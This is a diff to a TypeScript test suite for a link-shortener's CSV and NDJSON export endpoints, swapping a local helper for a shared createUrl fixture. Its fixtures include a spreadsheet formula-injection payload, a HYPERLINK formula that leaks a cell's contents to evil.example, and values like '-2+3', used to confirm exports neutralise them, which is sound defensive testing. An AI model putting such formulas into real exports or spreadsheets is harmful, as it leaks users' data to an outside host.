@@ -9,6 +9,7 @@ import {
   callApi,
   callWorker,
   countCalls,
+  createUrl,
   createUser,
   DEAD_DATABASE,
   keyedUser,
@@ -20,14 +21,6 @@ import {
 
 const database = openTestDatabase();
 afterAll(() => database.close());
-
-async function link(userId: number, fields: Record<string, unknown> = {}) {
-  const created = await callApi("POST", "/urls", {
-    body: { original_url: `https://example.com/${unique("x")}`, user_id: userId, ...fields },
-  });
-  expect(created.status, JSON.stringify(created.body)).toBe(201);
-  return created.body as { id: number; short_code: string };
-}
 
 /** The export's records as objects by column, after checking the download's headers. */
 async function exportCsv(query: string) {
@@ -44,9 +37,9 @@ describe("GET /urls/export.csv", () => {
   it("exports the filtered links with every column; hostile titles come out as text", async () => {
     const owner = (await createUser()).id;
     const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
-    const hostile = await link(owner, { title: formula, tags: ["promo", "q4"] });
-    const minus = await link(owner, { title: "-2+3", tags: ["promo"] });
-    const quoted = await link(owner, { title: 'He said "hi", then\nleft', max_clicks: 5 });
+    const hostile = await createUrl({ user_id: owner, title: formula, tags: ["promo", "q4"] });
+    const minus = await createUrl({ user_id: owner, title: "-2+3", tags: ["promo"] });
+    const quoted = await createUrl({ user_id: owner, title: 'He said "hi", then\nleft', max_clicks: 5 });
     const { text, records } = await exportCsv(`user_id=${owner}`);
     expect(text.split("\r\n")[0]).toBe(
       "id,short_code,short_url,original_url,title,tags,user_id,is_active,state,clicks,imported_clicks,created_at,updated_at,valid_since,expires_at,max_clicks,expired_url,fallback_url,query_forwarding,utm,rules,password_protected,health_state",
@@ -126,7 +119,7 @@ describe("GET /urls/export.csv", () => {
       overrides: production,
     });
     const other = (await createUser()).id;
-    await link(other);
+    await createUrl({ user_id: other });
     const own = await callApi("GET", "/urls/export.csv?format=ndjson", { key, overrides: production });
     expect(
       (own.body as string)
@@ -169,7 +162,7 @@ describe("GET /urls/{id}/clicks.csv", () => {
 
   it("exports a window of clicks oldest first; a referrer host like -2+3 comes out as text", async () => {
     const owner = (await createUser()).id;
-    const target = await link(owner);
+    const target = await createUrl({ user_id: owner });
     // new URL("http://-2+3/").hostname is "-2+3": a visitor chooses this cell.
     await addClick(target.id, "2026-03-01T10:00:00Z", { referrer: new URL("http://-2+3/").hostname, country: "DE" });
     await addClick(target.id, "2026-03-02T10:00:00Z", { referrer: "@evil.example", class: "bot" });
@@ -192,7 +185,7 @@ describe("GET /urls/{id}/clicks.csv", () => {
   });
 
   it("answers 400 for a bad window, class or format and 404 for no such link", async () => {
-    const target = await link((await createUser()).id);
+    const target = await createUrl({ user_id: (await createUser()).id });
     for (const [query, message] of [
       ["from=2026-05-01&to=2026-04-01", "from must be before to"],
       ["from=nope", "from must be"],
